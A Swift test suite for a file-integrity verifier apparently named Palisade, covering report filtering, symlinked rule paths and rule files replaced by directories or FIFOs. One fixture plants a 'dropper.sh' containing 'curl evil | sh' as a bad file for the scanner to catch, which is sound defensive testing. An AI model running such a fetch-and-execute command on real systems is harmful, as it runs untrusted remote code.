import Foundation
import PalisadeModel
import PalisadeTestSupport
import PalisadeVerifier
import Testing

/// How rule paths meet the scanned listing, and the report without `ok` findings.
@Suite("verify: rule paths and the scan listing")
struct VerifierListingTests {
    @Test func passingChecksCanBeCountedInsteadOfListed() throws {
        let fixture = try HostFixture()
        try fixture.host.write(Array("usr/bin/tool".utf8), HostFixture.tool + [0x00], mode: 0o755)
        try fixture.host.write("tmp/innocent-name", HostFixture.bad, mode: 0o755)
        try fixture.host.write("tmp/dropper.sh", "#!/bin/sh\ncurl evil | sh\n", mode: 0o644)
        let bundle = try LoadedBundle.load(fixture.bundle)
        let scan = ["/usr/bin", "/usr/local/bin", "/opt", "/tmp"]
        let full = Verifier(root: fixture.host.path, scanLocations: scan).verify(bundle)
        var counting = Verifier(root: fixture.host.path, scanLocations: scan)
        counting.listsPassingChecks = false
        let counted = counting.verify(bundle)
        #expect(full.findings.contains { $0.kind == .ok })
        #expect(!counted.findings.contains { $0.kind == .ok })
        #expect(counted.findings == full.findings.filter { $0.kind.isProblem })
        #expect(counted.summary == full.summary)
        #expect(counted.compliant == full.compliant)
        #expect(ReportFormats.text(counted) == ReportFormats.text(full))
    }

    @Test func aRuleFileReachedThroughASymlinkedDirectoryIsCheckedOnce() throws {
        // /usr/bin is a link to a real folder inside /usr: the walker lists the file under the
        // real folder only, the rule's path resolves to it, and it is neither missing nor unlisted.
        let fixture = try HostFixture()
        let host = fixture.host.path
        try FileManager.default.createDirectory(atPath: host + "/usr/lib", withIntermediateDirectories: true)
        #expect(rename(host + "/usr/bin", host + "/usr/lib/bin-real") == 0)
        #expect(symlink("lib/bin-real", host + "/usr/bin") == 0)
        let report = try fixture.verify(scan: ["/usr", "/opt", "/tmp"])
        #expect(report.compliant, "\(report.findings.filter { $0.kind.isProblem })")
        let tool = report.findings.filter { $0.path == "/usr/bin/tool" }
        #expect(tool.map(\.kind) == [.ok])
        #expect(!report.findings.contains { $0.path == "/usr/lib/bin-real/tool" })

        // Modified behind the link: reported once, at the rule's path.
        try fixture.host.write(Array("usr/lib/bin-real/tool".utf8), HostFixture.tool + [0x01], mode: 0o755)
        let changed = try fixture.verify(scan: ["/usr", "/opt", "/tmp"])
        #expect(changed.findings.filter(\.kind.isProblem).map(\.path) == ["/usr/bin/tool"])
        #expect(changed.findings.first { $0.path == "/usr/bin/tool" }?.kind == .modified)
    }

    @Test func aRuleFileReplacedByADirectoryOrADeviceIsNotARegularFile() throws {
        let fixture = try HostFixture()
        let host = fixture.host.path
        try FileManager.default.removeItem(atPath: host + "/usr/bin/tool")
        try FileManager.default.createDirectory(atPath: host + "/usr/bin/tool", withIntermediateDirectories: true)
        try FileManager.default.removeItem(atPath: host + "/opt/acme/bin/agent")
        #expect(mkfifo(host + "/opt/acme/bin/agent", 0o644) == 0)
        let report = try fixture.verify()
        let unknown = report.findings.filter { $0.kind == .unknown && $0.check == "file" }
        #expect(Set(unknown.compactMap(\.path)) == ["/usr/bin/tool", "/opt/acme/bin/agent"])
        #expect(unknown.first { $0.path == "/usr/bin/tool" }?.actual == "directory")
        #expect(unknown.first { $0.path == "/opt/acme/bin/agent" }?.actual == "fifo")
    }
}
